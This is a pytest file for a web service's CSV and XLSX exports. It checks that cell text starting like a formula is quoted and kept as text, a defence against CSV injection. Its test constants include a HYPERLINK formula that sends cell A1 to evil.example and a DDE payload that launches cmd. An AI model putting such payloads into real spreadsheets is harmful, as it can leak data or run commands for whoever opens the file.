"""Every exported CSV and XLSX: text that begins like a formula stays text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from server.models import Device, Site
from server.services.core import safe_cells
from tests.server.plans_helpers import FieldFactory, utc

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def csv_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def assert_no_formula(xlsx: bytes) -> None:
    """No cell of any sheet holds a formula: neither openpyxl nor the raw XML sees one."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    book = load_workbook(io.BytesIO(xlsx))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row), sheet.title


def xlsx_cells(xlsx: bytes, sheet: str | None = None) -> dict:
    book = load_workbook(io.BytesIO(xlsx))
    chosen = book[sheet] if sheet else book.active
    return {
        cell.value: cell for row in chosen.iter_rows() for cell in row if cell.value is not None
    }


@pytest.mark.parametrize(
    "text",
    [
        FORMULA,
        "+1+2",
        "-2-3",
        DDE,
        "\t=1",
        "\r=1",
        "＝1+1",
        "'=1",
        "''-2",
        "'plain",
        "正常",
        "",
        "a=b",
    ],
)
def test_csv_cells_are_neutralised_and_read_back(text):
    cell = safe_cells.csv_value(text)
    dangerous = text[:1] in "=+-@\t\r＝" and text != ""
    assert cell.startswith("'") if dangerous else True
    assert not cell.startswith(tuple("=+-@\t\r＝")) if text else cell == ""
    assert safe_cells.csv_unescape(cell) == text
    assert safe_cells.csv_value(7) == 7 and safe_cells.csv_value(-1.5) == -1.5


@pytest.fixture
def poisoned_coverage(reference_data, factory, db):
    """2026Q1: a site named like a formula, and a failed result whose note is one."""
    site = db.session.scalar(sa.select(Site).where(Site.code == "520102"))
    site.name = FORMULA
    room = reference_data["rooms"][("520102", "main_conference")]
    device = factory.device(room=room)
    engineer = factory.user("engineer")
    field = FieldFactory()
    visit = field.visit(site, engineer, utc(2026, 2, 3, 9))
    inspection = field.inspection(visit, device, outcome="fail", failed_items=["display.sharpness"])
    inspection.results[0].note = "-2-3"
    db.session.commit()
    return site


def test_coverage_csv_quotes_formula_text(poisoned_coverage, auth):
    client = auth("viewer")
    sites = client.get("/api/v1/coverage/export.csv?quarter=2026Q1&table=sites")
    named = [r for r in csv_rows(sites.data) if r["code"] == "520102"]
    assert named[0]["name"] == "'" + FORMULA
    failed = client.get("/api/v1/coverage/export.csv?quarter=2026Q1&table=failed")
    assert [r["note"] for r in csv_rows(failed.data)] == ["'-2-3"]


def test_coverage_xlsx_writes_formula_text_as_text(poisoned_coverage, auth):
    xlsx = auth("viewer").get("/api/v1/coverage/export.xlsx?quarter=2026Q1")
    assert xlsx.status_code == 200
    assert_no_formula(xlsx.data)
    name = xlsx_cells(xlsx.data, "sites")[FORMULA]
    note = xlsx_cells(xlsx.data, "failed")["-2-3"]
    assert name.data_type == note.data_type == "s" and name.quotePrefix and note.quotePrefix


@pytest.fixture
def poisoned_device(reference_data, factory, db):
    room = reference_data["rooms"][("520102", "main_conference")]
    return factory.device(room=room, serial="-5", notes=DDE)


def test_device_csv_export_quotes_and_imports_back(poisoned_device, tmp_path, db):
    from server.services.core.importer import export_devices, import_devices

    path = tmp_path / "devices.csv"
    export_devices(path)
    [row] = csv_rows(path.read_bytes())
    assert row["notes"] == "'" + DDE and row["serial"] == "'-5"
    db.session.execute(sa.text("DELETE FROM device_event"))
    db.session.execute(sa.delete(Device))
    assert import_devices(path) == 1
    device = db.session.scalar(sa.select(Device))
    assert (device.notes, device.serial) == (DDE, "-5")


def test_device_xlsx_export_writes_text(poisoned_device, app, tmp_path):
    path = tmp_path / "devices.xlsx"
    result = app.test_cli_runner().invoke(args=["export", "devices", "-o", str(path)])
    assert result.exit_code == 0, result.output
    assert_no_formula(path.read_bytes())
    assert xlsx_cells(path.read_bytes())[DDE].quotePrefix


def test_device_csv_on_stdout_quotes(poisoned_device, app):
    result = app.test_cli_runner().invoke(args=["export", "devices"])
    assert result.exit_code == 0 and "'" + DDE in result.output


def test_label_register_quotes_formula_text(reference_data, factory, auth, db):
    room = reference_data["rooms"][("520102", "main_conference")]
    device = factory.device(room=room)
    # "-2-3" is a valid username (the API allows a leading "-"); Excel would show -5.
    supervisor = auth("supervisor", factory.user("supervisor", username="-2-3"))
    printed = supervisor.post(
        "/api/v1/labels/print", json={"template": "a4-3x8", "tags": [device.tag]}
    )
    assert printed.status_code in (200, 201), printed.get_json()
    register = auth("viewer").get("/api/v1/labels/jobs?format=csv")
    assert [r["by"] for r in csv_rows(register.data)] == ["'-2-3"]


def test_plan_csv_quotes_formula_site_names(reference_data, app, db):
    db.session.execute(sa.update(Site).values(name="=" + Site.code))
    db.session.commit()
    result = app.test_cli_runner().invoke(args=["plan", "--quarter", "2026Q1", "--size", "3"])
    assert result.exit_code == 0, result.output
    rows = csv_rows(result.stdout.encode())
    assert len(rows) == 3 and all(r["site_name"] == "'=" + r["site_code"] for r in rows)
